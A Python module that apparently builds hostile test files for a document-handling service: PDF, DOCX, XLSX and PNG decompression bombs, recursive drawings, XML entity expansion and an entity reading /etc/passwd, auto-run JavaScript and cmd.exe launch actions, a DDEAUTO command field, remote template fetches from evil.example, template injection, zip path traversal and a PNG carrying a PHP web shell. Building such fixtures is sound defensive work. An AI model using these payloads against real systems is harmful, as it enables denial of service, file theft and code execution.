"""Hostile files, made at home: small, harmless while nobody opens them. Each has a name that says what it does."""

import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from io import BytesIO

from openpyxl import Workbook
from PIL import Image

from .synthesis.document import package, paragraph, run
from .synthesis.model import Words

MEGABYTE = 1 << 20
ONE_PAGE = b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>"


# --- PDF ----------------------------------------------------------------------------------------------------------


def pdf(*objects: bytes) -> bytes:
    """A PDF of these objects, numbered from 1; the first is its catalogue."""
    body, offsets = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, 1):
        offsets.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    head = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    tail = b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, len(body))
    return body + head + table + tail


def stream(packed: bytes, dictionary: bytes = b"", filters: bytes = b"/FlateDecode") -> bytes:
    return b"<<%s/Filter %s/Length %d>>stream\n%s\nendstream" % (dictionary, filters, len(packed), packed)


def page(resources: bytes = b"", more: bytes = b"") -> bytes:
    size = b"/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<<%s>>%s" % (resources, more)
    return b"<</Type/Page/Parent 2 0 R%s>>" % size


def packed(piece: bytes, times: int) -> bytes:
    """Many pieces, packed without ever being there at once."""
    packer = zlib.compressobj(9)
    return b"".join(packer.compress(piece) for _time in range(times)) + packer.flush()


def simple_pdf(content: bytes = b"BT ET") -> bytes:
    return pdf(*ONE_PAGE, page(), stream(zlib.compress(content)))


def content_of_a_gigabyte() -> bytes:
    return pdf(*ONE_PAGE, page(), stream(packed(b" " * MEGABYTE, 1024)))


def bomb_in_a_bomb() -> bytes:
    inner = packed(b" " * MEGABYTE, 1024)
    return pdf(*ONE_PAGE, page(), stream(zlib.compress(inner, 9), filters=b"[/FlateDecode/FlateDecode]"))


def eight_million_rectangles() -> bytes:
    return pdf(*ONE_PAGE, page(), stream(packed(b"0 0 1 1 re f\n" * 10_000, 800)))


def grid_of_a_thousand_lines() -> bytes:
    lines = (
        b"%.1f 0 m %.1f 842 l S 0 %.1f m 595 %.1f l S\n" % (i * 0.6, i * 0.6, i * 0.8, i * 0.8) for i in range(1000)
    )
    return simple_pdf(b"".join(lines))


def drawing_that_draws_itself() -> bytes:
    form = stream(
        zlib.compress(b"/X Do"), b"/Type/XObject/Subtype/Form/BBox[0 0 1 1]/Resources<</XObject<</X 5 0 R>>>>"
    )
    return pdf(*ONE_PAGE, page(b"/XObject<</X 5 0 R>>"), stream(zlib.compress(b"/X Do")), form)


def ten_billion_drawings() -> bytes:
    """Ten drawings in each of ten, ten levels deep."""
    tens = zlib.compress(b"/X Do " * 10)
    head = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]"
    levels = [stream(tens, head + b"/Resources<</XObject<</X %d 0 R>>>>" % (6 + level)) for level in range(10)]
    last = stream(zlib.compress(b"0 0 1 1 re f"), head)
    return pdf(*ONE_PAGE, page(b"/XObject<</X 5 0 R>>"), stream(tens), *levels, last)


def pages_in_a_circle() -> bytes:
    return pdf(ONE_PAGE[0], b"<</Type/Pages/Kids[2 0 R]/Count 1>>")


def two_hundred_thousand_pages() -> bytes:
    kids = b"<</Type/Pages/Kids[%s]/Count 200000>>" % (b"3 0 R " * 200_000)
    return pdf(ONE_PAGE[0], kids, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>")


def page_as_large_as_a_country() -> bytes:
    return pdf(*ONE_PAGE, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 2000000000 2000000000]>>")


def picture_of_three_billion_pixels() -> bytes:
    head = b"/Type/XObject/Subtype/Image/Width 60000/Height 60000/BitsPerComponent 1/ColorSpace/DeviceGray"
    picture = stream(packed(b"\0" * 7500, 60_000), head)
    draw = stream(zlib.compress(b"500 0 0 500 0 0 cm /I Do"))
    return pdf(*ONE_PAGE, page(b"/XObject<</I 5 0 R>>"), draw, picture)


def everything_that_acts() -> bytes:
    script = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
    catalogue = (
        b"<</Type/Catalog/Pages 2 0 R/OpenAction %s/Names<</JavaScript<</Names[(a)%s]>>"
        b"/EmbeddedFiles<</Names[(x.exe)<</Type/Filespec/F(x.exe)/EF<</F 5 0 R>>>>]>>>>"
        b"/AcroForm<</Fields[]/XFA 5 0 R>>>>"
    ) % (script, script)
    links = b"[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/SubmitForm/F(http://evil.example/)>>>>]"
    acting = page(more=b"/AA<</O<</S/Launch/F(cmd.exe)>>>>/Annots" + links)
    attached = stream(zlib.compress(b"MZ not really"), b"/Type/EmbeddedFile")
    return pdf(catalogue, ONE_PAGE[1], acting, stream(zlib.compress(b"0 0 9 9 re f")), attached)


def page_behind_a_web_page() -> bytes:
    return b"<html><script>alert(1)</script>\n" + simple_pdf()


def archive_behind_a_page() -> bytes:
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("a.txt", "x")
    return simple_pdf() + buffer.getvalue()


def half_a_file() -> bytes:
    whole = simple_pdf(b"0 0 9 9 re f " * 500)
    return whole[: len(whole) // 2]


def values_without_end() -> bytes:
    return pdf(*ONE_PAGE, page(more=b"/X " + b"[" * 400 + b"]" * 400), stream(zlib.compress(b"")))


# --- OOXML --------------------------------------------------------------------------------------------------------


def docx(words: str = "姓名：____", **parts: str) -> bytes:
    return package(f"<w:body>{paragraph([Words(words)])}</w:body>", **parts)


def with_document(text: str) -> bytes:
    """A document whose main part is exactly this."""
    return changed(docx(), {"word/document.xml": text.encode()})


def changed(data: bytes, parts: dict[str, bytes], dropped: tuple[str, ...] = ()) -> bytes:
    with zipfile.ZipFile(BytesIO(data)) as archive:
        known = {name: archive.read(name) for name in archive.namelist()}
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in {**known, **parts}.items():
            if name not in dropped:
                archive.writestr(name, content)
    return buffer.getvalue()


def document_part(data: bytes) -> str:
    with zipfile.ZipFile(BytesIO(data)) as archive:
        return archive.read("word/document.xml").decode()


def with_large_part(name: str, head: bytes, filling: bytes, tail: bytes) -> bytes:
    """A part of 200 MB, written piece by piece."""
    buffer = BytesIO(docx())
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive, archive.open(name, "w") as part:
        part.write(head)
        for _piece in range(200):
            part.write(filling * MEGABYTE)
        part.write(tail)
    return buffer.getvalue()


def text_of_two_hundred_megabytes() -> bytes:
    return with_large_part("word/footnotes.xml", b"<w:t>", b"A", b"</w:t>")


def nothing_of_two_hundred_megabytes() -> bytes:
    return with_large_part("word/media/image1.png", b"", b"\0", b"")


def declared(entities: str, use: str) -> bytes:
    plain = document_part(docx())
    head, body = plain.split("?>", 1)
    return with_document(f"{head}?><!DOCTYPE r [{entities}]>{body.replace('姓名', use, 1)}")


def entity_that_reads_a_file() -> bytes:
    return declared('<!ENTITY x SYSTEM "file:///etc/passwd">', "&x;")


def a_billion_laughs() -> bytes:
    more = "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10))
    return declared(f'<!ENTITY a0 "lol">{more}', "&a9;")


def one_entity_twenty_thousand_times() -> bytes:
    return declared(f'<!ENTITY q "{"x" * 50_000}">', "&q;" * 20_000)


def boxes_in_boxes() -> bytes:
    inner = "<w:sdt><w:sdtContent>" * 20_000 + "<w:p/>" + "</w:sdtContent></w:sdt>" * 20_000
    return package(f"<w:body>{inner}</w:body>")


def relation(kind: str, target: str, mode: str = "External") -> str:
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{base}/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
    )


def template_from_elsewhere() -> bytes:
    return docx(**{"word/_rels/settings.xml.rels": relation("attachedTemplate", "http://evil.example/t.dotm")})


def picture_from_elsewhere() -> bytes:
    return docx(**{"word/_rels/document.xml.rels": relation("image", "http://evil.example/spy.png")})


def page_swallowed_whole() -> bytes:
    return docx(**{"word/_rels/document.xml.rels": relation("aFChunk", "chunk.xml", "Internal")})


def macros_renamed() -> bytes:
    return docx(**{"word/vbaProject.bin": "\0" * 600})


def macros_by_their_type() -> bytes:
    with zipfile.ZipFile(BytesIO(docx())) as archive:
        types = archive.read("[Content_Types].xml")
    main = b"vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    return changed(docx(), {"[Content_Types].xml": types.replace(main, b"vnd.ms-word.document.macroEnabled.main+xml")})


def object_inside() -> bytes:
    return docx(**{"word/embeddings/oleObject1.bin": "\0" * 600})


def command_in_a_field() -> bytes:
    command = '<w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\cmd.exe "/k calc" </w:instrText></w:r>'
    return package(f"<w:body><w:p>{command}{run('x')}</w:p></w:body>")


def template_language() -> bytes:
    return docx('{{ "".__class__.__mro__[1].__subclasses__() }} 姓名：____')


def part_that_climbs_out() -> bytes:
    return docx(**{"../../../../evil.txt": "x"})


def sixty_thousand_parts() -> bytes:
    return docx(**{f"x/{number}": "" for number in range(60_000)})


def archive_that_lies() -> bytes:
    """A part that is larger than the archive says."""
    data = docx(**{"word/media/image1.png": "\0" * 5_000_000})
    return data.replace(struct.pack("<I", 5_000_000), struct.pack("<I", 5_000))


def document_in_two_bytes_a_character() -> bytes:
    return changed(docx(), {"word/document.xml": document_part(docx()).encode("utf-16")})


# --- XLSX ---------------------------------------------------------------------------------------------------------


def xlsx() -> bytes:
    book = Workbook()
    book.create_sheet("表", 0).append(["姓名", "", "性别", ""])
    buffer = BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def with_cells(change: Callable[[str], str]) -> bytes:
    name = "xl/worksheets/sheet1.xml"
    with zipfile.ZipFile(BytesIO(xlsx())) as archive:
        sheet = archive.read(name).decode()
    return changed(xlsx(), {name: change(sheet).encode()})


def cell_at_the_end_of_the_world() -> bytes:
    far = '<sheetData><row r="1048576"><c r="XFD1048576" t="n"><v>1</v></c></row>'
    return with_cells(lambda sheet: sheet.replace("<sheetData>", far, 1))


def everything_merged() -> bytes:
    merged = '</sheetData><mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    return with_cells(lambda sheet: sheet.replace("</sheetData>", merged, 1))


def a_million_rows() -> bytes:
    rows = "".join(
        f'<row r="{i}"><c r="A{i}" t="inlineStr"><is><t>{"A" * 31}</t></is></c></row>' for i in range(100, 400_000)
    )
    return with_cells(lambda sheet: sheet.replace("</sheetData>", f"{rows}</sheetData>", 1))


def workbook_that_reads_another() -> bytes:
    return changed(xlsx(), {"xl/externalLinks/externalLink1.xml": b"<externalLink/>"})


# --- pictures -----------------------------------------------------------------------------------------------------


def picture_larger_than_a_wall() -> bytes:
    buffer = BytesIO()
    Image.new("1", (9_000, 9_000)).save(buffer, "PNG")
    return buffer.getvalue()


def picture_with_a_tail() -> bytes:
    buffer = BytesIO()
    Image.new("RGB", (40, 30), "red").save(buffer, "PNG")
    return buffer.getvalue() + b"<?php system($_GET['x']); ?>"


BOMBS: dict[str, tuple[Callable[[], bytes], ...]] = {
    ".pdf": (
        *(content_of_a_gigabyte, bomb_in_a_bomb, eight_million_rectangles, grid_of_a_thousand_lines),
        *(drawing_that_draws_itself, ten_billion_drawings, pages_in_a_circle, two_hundred_thousand_pages),
        *(page_as_large_as_a_country, picture_of_three_billion_pixels, everything_that_acts, page_behind_a_web_page),
        *(archive_behind_a_page, half_a_file, values_without_end),
    ),
    ".docx": (
        *(text_of_two_hundred_megabytes, nothing_of_two_hundred_megabytes, entity_that_reads_a_file, a_billion_laughs),
        *(one_entity_twenty_thousand_times, boxes_in_boxes, template_from_elsewhere, picture_from_elsewhere),
        *(page_swallowed_whole, macros_renamed, macros_by_their_type, object_inside, command_in_a_field),
        *(template_language, part_that_climbs_out, sixty_thousand_parts, archive_that_lies),
        document_in_two_bytes_a_character,
    ),
    ".xlsx": (cell_at_the_end_of_the_world, everything_merged, a_million_rows, workbook_that_reads_another),
    ".png": (picture_larger_than_a_wall, picture_with_a_tail),
}


def all_bombs() -> Iterator[tuple[str, Callable[[], bytes]]]:
    """File name and maker of each."""
    for ending, makers in BOMBS.items():
        for maker in makers:
            yield maker.__name__ + ending, maker
